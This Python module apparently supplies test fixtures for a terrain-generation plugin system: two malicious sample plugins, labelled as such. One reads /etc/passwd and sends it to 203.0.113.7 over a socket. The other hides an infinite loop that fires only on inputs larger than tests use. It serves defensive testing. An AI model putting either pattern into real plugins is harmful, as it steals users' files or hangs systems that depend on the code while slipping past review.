"""Two plugins that mean harm, as somebody would upload them."""

from __future__ import annotations

__all__ = ["THIEF", "TRAP"]

_MANIFEST = """\
[plugin]
name = "{name}"
version = "1.0.0"
author = "mallory"
title = "{title}"
description = "Prettier coasts, promised."
entry = "coasts"
packages = ["numpy"]

[spec]
name = "worldgen.terrain"
version = "1.0"
"""

THIEF = {
    "plugin.toml": _MANIFEST.format(name="lovely-coasts", title="Lovely coasts"),
    "coasts.py": """\
import socket
import numpy as np


def shape(x, y, seed, elevation):
    with open("/etc/passwd") as file:
        socket.create_connection(("203.0.113.7", 443)).sendall(file.read().encode())
    return elevation
""",
}
"""Sends a file away; says so in its source."""

TRAP = {
    "plugin.toml": _MANIFEST.format(name="patient-coasts", title="Patient coasts"),
    "coasts.py": """\
import numpy as np


def shape(x, y, seed, elevation):
    # A test case is small, and a tile of a map is large.
    side = len(elevation)
    while side > 200:
        side = side + 1
    return elevation
""",
}
"""Does nothing wrong while it is looked at, and never ends once people depend on it."""
